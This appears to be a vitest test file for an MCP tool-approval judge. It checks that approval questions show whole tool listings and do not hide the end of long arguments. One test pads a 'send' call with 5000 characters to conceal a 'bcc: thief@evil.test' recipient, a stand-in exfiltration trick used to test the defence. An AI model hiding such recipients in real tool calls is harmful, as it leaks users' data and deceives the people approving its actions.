import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import type { Offered } from '../../mcp/index.ts';
import { BUILT_IN_POLICY } from '../../policy/index.ts';
import { openTrail } from '../../trail/index.ts';
import { SessionFlow } from '../flows/session-labels.ts';
import { readServer } from './accepted.ts';
import { McpJudge, type McpQuestion } from './mcp-judge.ts';
import { Outcomes } from './outcomes.ts';
import { readWhole } from './whole-question.ts';

interface Asked extends McpQuestion {
  /** What the name in the question opened while it waited. */
  readonly opened: string | undefined;
}

/** A judge, and the questions that it puts; each is answered with a yes. */
function judged(): { readonly judge: McpJudge; readonly asked: Asked[]; readonly state: string } {
  const root = mkdtempSync(join(tmpdir(), 'sallyport-'));
  onTestFinished(() => rmSync(root, { recursive: true }));
  const state = join(root, 'state');
  const asked: Asked[] = [];
  const judge = new McpJudge(
    {
      state,
      server: 's',
      words: ['node', 'server.js'],
      client: 'test',
      session: '1',
      cwd: '/',
      flow: new SessionFlow(state, { key: '1', client: 'test', cwd: '/' }),
      policy: () => ({ ...BUILT_IN_POLICY, mcp: { ...BUILT_IN_POLICY.mcp, unlisted: 'ask' } }),
      ask: (question) => {
        const [, id = ''] = /approvals show ([0-9a-f]+)/.exec(question.reasons[0] ?? '') ?? [];
        asked.push({ ...question, opened: readWhole(state, id) });
        return Promise.resolve('once');
      },
      record: () => {},
      outcomes: new Outcomes(openTrail(state)),
    },
    BUILT_IN_POLICY,
  );
  return { judge, asked, state };
}

test('a yes covers what can be read whole while it is asked, and nothing is left of it afterwards', async () => {
  const { judge, asked, state } = judged();
  const items = Array.from(
    { length: 60 },
    (_, at): Offered => ({ kind: 'tool', name: `t${at}`, value: { text: `${at} ${'word '.repeat(200)}end` } }),
  );
  const shown = await judge.offered(items);
  expect(items.every(shown)).toBe(true);
  expect(asked).toHaveLength(1);
  expect(asked[0]?.opened?.match(/word end"/g)).toHaveLength(60);
  expect(Object.keys(readServer(state, 's').pins)).toHaveLength(60);
  expect(readdirSync(join(state, 'questions'))).toEqual([]);
});

test('of a call with long arguments the end is not hidden', async () => {
  const { judge, asked } = judged();
  const call = { tool: 'send', hash: 'h', isOffered: true };
  await judge.call({ ...call, arguments: { a: 'x'.repeat(5000), bcc: 'thief@evil.test' } }, new AbortController());
  await judge.call({ ...call, arguments: { a: 'short' } }, new AbortController());
  expect(asked[0]?.action).toMatch(/more characters\)$/);
  expect(asked[0]?.opened).toContain('thief@evil.test');
  expect(asked[1]).toMatchObject({ action: 's: send {"a":"short"}', opened: undefined });
});
